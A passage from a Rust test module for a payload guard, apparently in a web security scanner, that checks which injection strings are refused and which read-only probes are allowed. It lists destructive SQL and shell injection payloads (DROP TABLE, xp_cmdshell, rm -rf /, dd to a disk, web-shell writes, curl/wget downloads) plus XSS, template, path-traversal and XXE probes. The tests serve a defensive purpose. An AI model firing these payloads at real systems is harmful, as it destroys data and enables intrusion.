    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(v: &str) -> bool {
        check(v).is_err()
    }

    #[test]
    fn refuses_sql_writes() {
        for v in [
            "'; DROP TABLE users; --",
            "1; DELETE FROM users",
            "1' ; update users set role='admin' --",
            "1\" ; INSERT INTO t VALUES (1) --",
            "x' UNION SELECT 1 INTO OUTFILE '/tmp/x' -- ",
            "1;truncate users",
            "1 union select * into dumpfile '/x'",
            "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
            "1; PRAGMA writable_schema = 1",
            "1; exec xp_cmdshell 'dir'",
            "1' /*!50000DROP*/ table x -- ",
            "1%27%3B%20DROP%20TABLE%20users",
            "1%2527%253B%2520DROP%2520TABLE%2520x",
            "1' OR nextval('s')>0 --",
            "1'; REPLACE INTO t VALUES(1); --",
            "\\'; DROP TABLE x; --",
            "1 AND (SELECT lo_export(1,'/tmp/x'))",
            "x'; SET GLOBAL general_log = 1; --",
            "1; CREATE TABLE x(a)",
            "1'; GRANT ALL ON *.* TO x; --",
        ] {
            let r = check(v);
            assert!(r.is_err(), "{v} should be refused");
            assert_eq!(r.unwrap_err().rule, "sql-write", "{v}");
        }
    }

    #[test]
    fn allows_read_only_sql_probes() {
        for v in [
            "1' AND '4821'='4821",
            "1 AND 4821=4822",
            "1\" AND \"12\"=\"12",
            "1' OR 1234=(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 1000000) SELECT count(*) FROM c) AND '1'='1",
            "1' AND (SELECT 1 FROM (SELECT SLEEP(3))x)=1 AND '1'='1",
            "1' AND 1=(SELECT 1 FROM pg_sleep(3)) AND '1'='1",
            "1'; WAITFOR DELAY '0:0:3'--",
            "1' AND replace('a','a','b')='b",
            "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('rmp',3) AND '1'='1",
            "please update my address",
            "walk into the shop",
            "1; PRAGMA table_info",
            "shoes",
            "O'Reilly",
        ] {
            assert!(check(v).is_ok(), "{v}: {:?}", check(v));
        }
    }

    #[test]
    fn refuses_shell_writes() {
        for v in [
            "; rm -rf /",
            "1; rm -rf /",
            "| rm -rf /tmp/x",
            "$(rm -rf /)",
            "`rm x`",
            "\"; rm -rf / ; \"",
            "'; /bin/rm -rf / #",
            "1 && sudo -n rm x",
            "; echo x > /var/www/shell.php",
            "1 >> /etc/passwd",
            "x; dd if=/dev/zero of=/dev/sda",
            "; mkfs.ext4 /dev/sda1",
            "; chmod 777 /",
            "; kill -9 1",
            "; shutdown -h now",
            "; curl -o /tmp/x http://e/x",
            "; curl -sSo /tmp/x http://e/x",
            "; wget http://e/x",
            "; sh -c 'rm -rf /'",
            "; bash -lc \"mv a b\"",
            "; env X=1 nohup rm x",
            "; find / -delete",
            "; sed -i s/a/b/ f",
            "& del C:\\x",
            "| powershell -c Remove-Item x",
            "\"$(rm -rf /)\"",
            "a\nrm -rf /",
            "; eval 'rm -rf /'",
            "; cat <in >out",
            "1;echo x&>/tmp/y",
            "; tee /tmp/x",
            "%3B%20rm%20-rf%20%2F",
        ] {
            // Some are also SQL-shaped (`; kill`); any rule may refuse them.
            assert!(check(v).is_err(), "{v} should be refused");
        }
    }

    #[test]
    fn allows_harmless_shell_probes() {
        for v in [
            ";echo rmpab12$((123*456))",
            "1|echo rmpab12$((123*456))",
            "1`echo rmpab12$((123*456))`",
            "1$(echo rmpab12$((123*456)))",
            "1';echo rmpab12$((123*456));'",
            "1\";echo rmpab12$((123*456));\"",
            "1\necho rmpab12$((123*456))",
            "1&set /a 123*456",
            ";sleep 3",
            "1 2>&1 >/dev/null",
            "; curl -s http://e/x",
            "; wget -qO- http://e/x",
            "<rmpab12>",
            "\"><rmpab12>",
            "</script><rmpab12>",
            "--><rmpab12>",
            "\" rmpab12=1 x=\"",
            "javascript:rmpab12(1)",
            "rmpab{{123*456}}",
            "rmpab<%= 123*456 %>",
            "rmpab${123*456}",
            "rmpab#{123*456}",
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "http://127.0.0.1:4000/rmp/abc",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE rmp [\n<!ENTITY rmpe SYSTEM \"http://127.0.0.1:1/rmp/x\">\n]>\n<rmp>\n&rmpe;\n</rmp>\n",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE rmp [\n<!ENTITY % rmpp SYSTEM \"http://127.0.0.1:1/rmp/x\">\n%rmpp;\n]>\n<rmp/>\n",
        ] {
            assert!(check(v).is_ok(), "{v}: {:?}", check(v));
        }
    }

    #[test]
    fn deep_nesting_and_long_values_are_refused() {
        let mut v = String::from("x");
        for _ in 0..12 {
            v = format!("$(echo {v})");
        }
        assert!(refused(&v));
        assert!(refused(&"a".repeat(MAX_GUARDED_LEN + 1)));
    }
}
